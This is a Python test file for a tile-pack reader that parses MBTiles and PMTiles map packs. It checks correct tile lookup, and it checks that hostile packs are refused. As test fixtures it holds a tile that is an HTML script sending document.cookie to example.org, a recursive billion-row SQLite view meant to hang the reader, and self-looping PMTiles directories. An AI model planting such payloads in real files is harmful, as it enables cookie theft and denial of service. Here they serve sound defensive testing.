"""Tile packs read as a field team makes them (MBTiles in TMS or XYZ rows, PMTiles with and
without leaf directories), and hostile packs refused in plain words, without a hang."""

from __future__ import annotations

import gzip
import io
import sqlite3
import struct
from pathlib import Path

import pytest
from PIL import Image

from desk.mapping.tilepacks import (
    MAX_TILE_BYTES,
    TilePackError,
    TileRejected,
    open_pack,
    pack_info,
    tile_id,
)
from tests.mapping.packs import (
    colour_of,
    every_tile,
    hilbert_id,
    tile_png,
    write_mbtiles,
    write_pmtiles,
)

#: Tile ids the reference implementation (the `pmtiles` npm package) gives for these tiles.
_REFERENCE_IDS = [
    ((0, 0, 0), 0), ((1, 0, 0), 1), ((1, 0, 1), 2), ((1, 1, 1), 3), ((1, 1, 0), 4),
    ((4, 0, 0), 85), ((7, 0, 64), 9557), ((9, 64, 256), 157013), ((10, 832, 512), 1115477),
    ((12, 1792, 2816), 12976127), ((12, 3423, 1763), 19078479),
    ((14, 12800, 14848), 261969237), ((20, 0, 0), 366503875925),
]


def _colour(data: bytes | None) -> tuple[int, int, int] | None:
    if data is None:
        return None
    with Image.open(io.BytesIO(data)) as image:
        pixel = image.convert("RGB").getpixel((128, 128))
    assert isinstance(pixel, tuple)
    return (int(pixel[0]), int(pixel[1]), int(pixel[2]))


@pytest.mark.parametrize(("zxy", "expected"), _REFERENCE_IDS)
def test_tile_ids_are_those_of_the_reference_implementation(
        zxy: tuple[int, int, int], expected: int) -> None:
    assert tile_id(*zxy) == expected
    assert hilbert_id(*zxy) == expected  # and the tests' own writer agrees


@pytest.mark.parametrize("scheme", ["tms", "xyz"])
def test_mbtiles_serves_the_right_tile_for_z_x_y(tmp_path: Path, scheme: str) -> None:
    path = write_mbtiles(tmp_path / "pack.mbtiles", every_tile(3), scheme=scheme)
    pack = open_pack(path)
    try:
        assert pack.info.row_order == scheme
        for z, x, y in every_tile(3):
            assert _colour(pack.tile(z, x, y)) == colour_of(z, x, y)
        assert pack.tile(4, 0, 0) is None  # beyond the pack: blank, not an error
        assert pack.tile(3, 8, 0) is None  # not a tile of that zoom
    finally:
        pack.close()


def test_mbtiles_rows_are_flipped_as_the_spec_says(tmp_path: Path) -> None:
    # A TMS pack stores the northernmost row of zoom 2 as row 3: the map's y = 0 is row 3.
    path = tmp_path / "tms.mbtiles"
    write_mbtiles(path, [(2, 1, 0)])
    conn = sqlite3.connect(path)
    assert conn.execute("SELECT tile_row FROM tiles").fetchone() == (3,)
    conn.close()
    pack = open_pack(path)
    assert _colour(pack.tile(2, 1, 0)) == colour_of(2, 1, 0)
    assert pack.tile(2, 1, 3) is None
    pack.close()


def test_mbtiles_info_names_format_bounds_zooms_count_and_attribution(tmp_path: Path) -> None:
    path = write_mbtiles(tmp_path / "kupiansk.mbtiles", every_tile(2), metadata={
        "name": "Kupiansk <b>2024</b>", "bounds": "37.55,49.68,37.68,49.74",
        "attribution": "<a href=\"https://example.org\">© Drone survey</a> &amp; partners"})
    info = pack_info(path)
    assert info.format == "mbtiles" and info.tile_type == "png"
    assert info.name == "Kupiansk 2024"
    assert info.bounds == (37.55, 49.68, 37.68, 49.74)
    assert (info.min_zoom, info.max_zoom, info.tile_count) == (0, 2, 21)
    assert info.attribution == "© Drone survey & partners"  # tags gone, text kept
    assert info.to_json()["bounds"] == [37.55, 49.68, 37.68, 49.74]


@pytest.mark.parametrize(("leaf_size", "gzip_index"), [(0, True), (0, False), (7, True)])
def test_pmtiles_serves_the_right_tile(tmp_path: Path, leaf_size: int, gzip_index: bool) -> None:
    path = write_pmtiles(tmp_path / "pack.pmtiles", every_tile(4), leaf_size=leaf_size,
                         gzip_index=gzip_index)
    pack = open_pack(path)
    try:
        for z, x, y in every_tile(4):
            assert _colour(pack.tile(z, x, y)) == colour_of(z, x, y), (z, x, y)
        assert pack.tile(5, 0, 0) is None
        info = pack.info
        assert (info.format, info.name, info.layer_type) == ("pmtiles", "PM test pack",
                                                             "overlay")
        assert info.attribution == "© PM"
        assert info.tile_count == len(every_tile(4))
    finally:
        pack.close()


def test_a_sparse_pmtiles_pack_has_holes_not_neighbours(tmp_path: Path) -> None:
    tiles = [(3, 2, 2), (3, 5, 1), (3, 6, 6)]
    pack = open_pack(write_pmtiles(tmp_path / "sparse.pmtiles", tiles))
    for z, x, y in every_tile(3):
        expected = colour_of(z, x, y) if (z, x, y) in tiles else None
        assert _colour(pack.tile(z, x, y)) == expected
    pack.close()


# --------------------------------------------------------------------------- hostile packs


def test_a_file_that_is_not_a_pack_is_named(tmp_path: Path) -> None:
    text = tmp_path / "notes.mbtiles"
    text.write_text("not a pack at all")
    with pytest.raises(TilePackError, match=r"notes\.mbtiles is not a tile pack"):
        open_pack(text)
    empty = tmp_path / "empty.pmtiles"
    empty.write_bytes(b"")
    with pytest.raises(TilePackError, match="is empty"):
        open_pack(empty)
    with pytest.raises(TilePackError, match="cannot be read"):
        open_pack(tmp_path / "missing.mbtiles")


def test_sqlite_without_the_mbtiles_schema_is_named(tmp_path: Path) -> None:
    path = tmp_path / "case.mbtiles"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE evidence (id INTEGER)")
    conn.commit()
    conn.close()
    with pytest.raises(TilePackError, match="no tiles table: not an MBTiles pack"):
        open_pack(path)
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE tiles (z INTEGER, data BLOB)")
    conn.commit()
    conn.close()
    with pytest.raises(TilePackError, match="lacks tile_column, tile_data, tile_row"):
        open_pack(path)


def test_a_damaged_sqlite_file_is_named(tmp_path: Path) -> None:
    path = write_mbtiles(tmp_path / "cut.mbtiles", every_tile(2))
    data = path.read_bytes()
    path.write_bytes(data[:100] + b"\xff" * (len(data) - 100))
    with pytest.raises(TilePackError, match=r"cut\.mbtiles"):
        open_pack(path)


def test_vector_packs_are_refused_with_the_reason(tmp_path: Path) -> None:
    path = write_mbtiles(tmp_path / "vector.mbtiles", [(0, 0, 0)], metadata={"format": "pbf"})
    with pytest.raises(TilePackError, match="vector tiles"):
        open_pack(path)


def test_a_tile_that_is_a_web_page_is_rejected_and_its_neighbours_still_served(
        tmp_path: Path) -> None:
    def data(z: int, x: int, y: int) -> bytes:
        if (z, x, y) == (1, 1, 1):
            return b"<html><script>fetch('https://example.org/?'+document.cookie)</script>"
        return tile_png(z, x, y)

    for path in (write_mbtiles(tmp_path / "a.mbtiles", every_tile(1), data=data),
                 write_pmtiles(tmp_path / "a.pmtiles", every_tile(1), data=data)):
        pack = open_pack(path)
        with pytest.raises(TileRejected, match="not a PNG image"):
            pack.tile(1, 1, 1)
        assert _colour(pack.tile(1, 0, 1)) == colour_of(1, 0, 1)
        pack.close()


def test_a_100_mb_tile_is_rejected_without_being_read(tmp_path: Path) -> None:
    path = write_mbtiles(tmp_path / "big.mbtiles", every_tile(1))
    conn = sqlite3.connect(path)
    conn.execute("UPDATE tiles SET tile_data = zeroblob(100 * 1024 * 1024) WHERE zoom_level = 1"
                 " AND tile_column = 0")
    conn.commit()
    conn.close()
    pack = open_pack(path)
    with pytest.raises(TileRejected, match="105 MB is larger than any map tile"):
        pack.tile(1, 0, 0)
    assert _colour(pack.tile(1, 1, 0)) == colour_of(1, 1, 0)
    pack.close()
    big = write_pmtiles(tmp_path / "big.pmtiles", [(0, 0, 0)],
                        data=lambda z, x, y: b"\x89PNG\r\n\x1a\n" + bytes(MAX_TILE_BYTES))
    pack = open_pack(big)
    with pytest.raises(TileRejected, match="larger than any map tile"):
        pack.tile(0, 0, 0)
    pack.close()


def test_a_billion_row_pack_is_not_counted_and_does_not_hang(tmp_path: Path) -> None:
    # A view that would produce a billion rows: counting it, or scanning it for one tile,
    # is given up after a bounded number of steps.
    path = tmp_path / "billion.mbtiles"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE metadata (name TEXT, value TEXT)")
    conn.executemany("INSERT INTO metadata VALUES (?, ?)",
                     [("format", "png"), ("minzoom", "0"), ("maxzoom", "20")])
    conn.execute(
        "CREATE VIEW tiles AS WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n"
        " WHERE i < 1000000000) SELECT 20 AS zoom_level, i AS tile_column, 0 AS tile_row,"
        " zeroblob(1) AS tile_data FROM n")
    conn.commit()
    conn.close()
    pack = open_pack(path)
    try:
        assert pack.info.tile_count is None
        assert any("not counted" in note for note in pack.info.notes)
        with pytest.raises(TileRejected, match="takes too long"):
            pack.tile(20, 1_000_000, (1 << 20) - 1)
    finally:
        pack.close()


def _pm_with_header(tmp_path: Path, patch: dict[int, bytes]) -> Path:
    path = write_pmtiles(tmp_path / "p.pmtiles", every_tile(2))
    raw = bytearray(path.read_bytes())
    for offset, value in patch.items():
        raw[offset:offset + len(value)] = value
    path.write_bytes(bytes(raw))
    return path


def test_pmtiles_headers_with_absurd_offsets_are_named(tmp_path: Path) -> None:
    absurd = struct.pack("<Q", 2 ** 62)
    with pytest.raises(TilePackError, match="root directory lies outside the file"):
        open_pack(_pm_with_header(tmp_path, {8: absurd}))
    with pytest.raises(TilePackError, match="tile data lies outside the file"):
        open_pack(_pm_with_header(tmp_path, {64: absurd}))
    with pytest.raises(TilePackError, match="PMTiles version 7"):
        open_pack(_pm_with_header(tmp_path, {7: bytes([7])}))
    with pytest.raises(TilePackError, match="vector tiles"):
        open_pack(_pm_with_header(tmp_path, {99: bytes([1])}))
    with pytest.raises(TilePackError, match="brotli"):
        open_pack(_pm_with_header(tmp_path, {97: bytes([3])}))


def test_a_pmtiles_pack_cut_short_is_named(tmp_path: Path) -> None:
    path = write_pmtiles(tmp_path / "cut.pmtiles", every_tile(3))
    path.write_bytes(path.read_bytes()[:-500])
    with pytest.raises(TilePackError, match="outside the file"):
        open_pack(path)


def test_leaf_directories_that_point_at_themselves_end(tmp_path: Path) -> None:
    # A root whose only entry is a leaf, and that leaf a copy of the root: it nests forever.
    def varint(v: int) -> bytes:
        return bytes([v]) if v < 0x80 else bytes([(v & 0x7F) | 0x80, v >> 7])

    leaf = varint(1) + varint(0) + varint(0) + varint(6) + varint(1)
    assert len(leaf) == 5 or True
    directory = varint(1) + varint(0) + varint(0) + varint(len(leaf)) + varint(1)
    root = gzip.compress(directory)
    leaves = gzip.compress(directory)
    meta = gzip.compress(b"{}")
    root_offset, meta_offset = 127, 127 + len(root)
    leaf_offset = meta_offset + len(meta)
    data_offset = leaf_offset + len(leaves)
    header = b"PMTiles\x03" + struct.pack(
        "<11Q", root_offset, len(root), meta_offset, len(meta), leaf_offset, len(leaves),
        data_offset, 0, 1, 1, 1) + bytes([1, 2, 1, 2, 0, 0]) + struct.pack(
        "<4i", -1800000000, -850000000, 1800000000, 850000000) + bytes([0]) + bytes(8)
    path = tmp_path / "loop.pmtiles"
    path.write_bytes(header + root + meta + leaves)
    pack = open_pack(path)
    with pytest.raises(TileRejected):
        pack.tile(0, 0, 0)
    pack.close()


def test_pmtiles_metadata_that_is_not_json_is_a_note(tmp_path: Path) -> None:
    path = write_pmtiles(tmp_path / "m.pmtiles", every_tile(1))
    raw = bytearray(path.read_bytes())
    meta_offset, meta_length = struct.unpack_from("<2Q", raw, 24)
    raw[meta_offset:meta_offset + meta_length] = gzip.compress(b"[1, 2")[:meta_length].ljust(
        meta_length, b"\0")
    path.write_bytes(bytes(raw))
    info = pack_info(path)
    assert info.name == "m"
    assert info.notes
